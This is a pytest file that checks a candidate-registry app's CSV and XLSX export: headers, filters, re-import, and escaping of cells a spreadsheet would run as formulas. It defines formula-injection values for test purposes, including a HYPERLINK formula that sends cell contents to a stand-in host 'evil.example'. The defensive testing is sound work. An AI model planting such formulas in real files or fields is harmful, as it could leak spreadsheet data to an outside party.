"""Export to .xlsx and .csv: the import template's columns, list filters, and cells that a
spreadsheet would run as formulas neutralised."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import pytest_asyncio

from tests.candidates.conftest import XLSX, Site, create, read_xlsx

pytestmark = pytest.mark.asyncio(loop_scope="module")

HEADERS = ["roll_no", "registration_no", "full_name", "date_of_birth", "gender", "category",
           "email", "phone", "address", "center", "registered_exams", "extra_time_percent",
           "scribe", "large_print", "separate_room", "documents_verified", "fee_paid",
           "status", "eligibility", "eligibility_reasons"]
HOSTILE = {"full_name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
           "address": "=1+2", "category": "@SUM(1)", "registration_no": "+4711"}


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def seeded(site: Site) -> Site:
    await create(site.admin, "EX-1", **HOSTILE)
    await create(site.admin, "EX-2", full_name="-Minus Start", address="-2 Lane",
                 status="withdrawn", fee_paid=False)
    await create(site.admin, "00777", full_name="अनन्या शर्मा", registered_exams=["M1", "P2"],
                 accommodations={"extra_time_percent": 50, "scribe": True})
    return site


def csv_rows(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, so that Excel reads UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


async def test_xlsx_export_neutralises_formulas(seeded: Site) -> None:
    r = await seeded.admin.get("/api/candidates/export/?format=xlsx")
    assert r.status == 200 and r.headers["Content-Type"] == XLSX, r
    assert 'filename="candidates.xlsx"' in r.headers["Content-Disposition"]
    wb = openpyxl.load_workbook(io.BytesIO(r.raw))  # formulas stay formulas here
    ws = wb.worksheets[0]
    rows = {row[0].value: row for row in ws.iter_rows(min_row=2)}
    assert [c.value for c in next(ws.iter_rows(max_row=1))] == HEADERS
    assert set(rows) == {"EX-1", "EX-2", "00777"}  # the roll number stays text
    for row in rows.values():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    ex1 = {h: c.value for h, c in zip(HEADERS, rows["EX-1"], strict=True)}
    for field, value in HOSTILE.items():
        assert ex1[field] == "'" + value, (field, ex1[field])
    assert rows["EX-2"][2].value == "'-Minus Start"
    devanagari = {h: c.value for h, c in zip(HEADERS, rows["00777"], strict=True)}
    assert devanagari["full_name"] == "अनन्या शर्मा"
    assert devanagari["registered_exams"] == "M1, P2"
    assert (devanagari["extra_time_percent"], devanagari["scribe"]) == (50, True)
    assert (devanagari["date_of_birth"], devanagari["eligibility"]) == ("2003-04-05",
                                                                        "eligible")


async def test_csv_export_neutralises_formulas_and_filters(seeded: Site) -> None:
    r = await seeded.admin.get("/api/candidates/export/?format=csv")
    assert r.status == 200 and r.headers["Content-Type"].startswith("text/csv"), r
    rows = csv_rows(r.raw)
    assert rows[0] == HEADERS
    by_roll = {row[0]: dict(zip(HEADERS, row, strict=True)) for row in rows[1:]}
    assert by_roll["EX-1"]["full_name"].startswith("'=")
    assert by_roll["EX-1"]["address"] == "'=1+2"
    assert by_roll["EX-1"]["category"] == "'@SUM(1)"
    assert by_roll["EX-2"]["address"] == "'-2 Lane"
    assert by_roll["EX-2"]["eligibility_reasons"] == "fee not paid"

    r = await seeded.admin.get("/api/candidates/export/?format=csv&status=withdrawn")
    assert [row[0] for row in csv_rows(r.raw)[1:]] == ["EX-2"]
    r = await seeded.admin.get("/api/candidates/export/?format=xlsx&search=शर्मा")
    assert [row[0] for row in read_xlsx(r.raw)[1:]] == ["00777"]
    r = await seeded.admin.get("/api/candidates/export/?format=csv&eligibility_status=eligible"
                               "&ordering=-roll_no")
    assert [row[0] for row in csv_rows(r.raw)[1:]] == ["EX-1", "00777"]
    r = await seeded.admin.get("/api/candidates/export/?format=pdf")
    assert r.status == 400 and "format" in r.body, r
    r = await seeded.admin.get("/api/candidates/export/?format=csv&ordering=secret")
    assert r.status == 400, r


async def test_export_imports_back_unchanged(seeded: Site) -> None:
    """An export is a valid import file: importing it again changes nothing."""
    await create(seeded.admin, "RT-1", phone="98765 43210", email="rt@example.org",
                 registered_exams=["M1"], accommodations={"large_print": True})
    await create(seeded.admin, "RT-2", date_of_birth=None, gender="undisclosed")
    entries = seeded.log_entries()
    for fmt in ("xlsx", "csv"):
        r = await seeded.admin.get(f"/api/candidates/export/?format={fmt}&search=RT-")
        back = await seeded.admin.import_file(r.raw, filename=f"export.{fmt}")
        assert back.body["status"] == "done", back
        assert (back.body["unchanged"], back.body["rejected"]) == (2, 0), back
        assert back.body["ignored_columns"] == ["eligibility", "eligibility_reasons"]
    assert seeded.log_entries() == entries
